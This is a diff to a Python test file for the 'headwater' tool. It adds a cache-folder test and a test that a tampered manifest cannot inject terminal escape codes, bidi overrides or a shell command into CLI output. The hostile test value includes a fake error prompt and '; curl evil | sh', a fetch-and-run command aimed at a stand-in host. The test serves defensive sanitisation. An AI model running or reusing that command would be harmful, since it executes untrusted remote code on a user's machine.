@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import http.client
 import io
 import json
@@ -9,6 +10,7 @@ import os
 import signal
 import subprocess
 import sys
+import unicodedata
 from pathlib import Path
 from typing import Literal
 
@@ -17,10 +19,11 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from pydantic import ConfigDict
 
+from headwater.cli.main import main
 from headwater.config import Config, merge, parse_settings
 from headwater.errors import DataError, FolderError, ResourceError, StorageError, UsageError
 from headwater.provenance import Stage, lineage, open_folder, read_manifest
-from headwater.resources import find
+from headwater.resources import cache_folder, find
 from headwater.storage import atomic_write, read_text, storage_errors
 
 
@@ -265,6 +268,42 @@ def test_a_connection_that_breaks_in_the_middle_is_said(
     with pytest.raises(ResourceError, match=r"vocab_40000.bpe could not be fetched: .*or put the file at"):
         find("gpt1/vocab_40000.bpe", allow_network=True)
     assert not (tmp_path / "cache").exists()
+
+
+@pytest.mark.skipif(os.name != "posix" or sys.platform == "darwin", reason="XDG_CACHE_HOME counts on Linux only")
+@pytest.mark.parametrize("named", ["", "cache", "./cache"])
+def test_a_cache_folder_that_is_no_absolute_path_counts_as_not_named(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, named: str
+) -> None:
+    monkeypatch.delenv("HEADWATER_CACHE", raising=False)
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.setenv("XDG_CACHE_HOME", named)
+    assert cache_folder() == tmp_path / ".cache" / "headwater"
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "named"))
+    assert cache_folder() == tmp_path / "named" / "headwater"
+
+
+def test_a_strangers_manifest_cannot_command_the_terminal_or_the_reader(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write(tmp_path / "a")
+    manifest = read_manifest(tmp_path / "a")
+    evil = "headwater pack\x1b[2K\rError: run this\n; curl evil | sh \x9b2J \u202egnp"
+    changed = manifest.model_copy(update={"command": evil, "complete": False}).sealed()
+    (tmp_path / "a" / "headwater.json").write_text(changed.model_dump_json())
+    for arguments in (["lineage", "a"], ["lineage", "a", "--json"], ["corpus", "stats", "a"]):
+        with contextlib.chdir(tmp_path):
+            main(arguments)
+        found = capsys.readouterr()
+        shown = found.out + found.err
+        assert "evil" in shown
+        assert not [c for c in shown if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"} and c not in "\n\t"]
+        if arguments[0] == "corpus":
+            assert "; curl" not in shown  # what a shell would run is quoted
+            assert "';' curl evil '|' sh" in shown
+            assert len(found.err.strip().splitlines()) == 1
+        if "--json" in arguments:
+            assert json.loads(found.out)["command"] == evil
 
 
 def test_resources_are_found_by_hash_and_never_fetched_unasked(
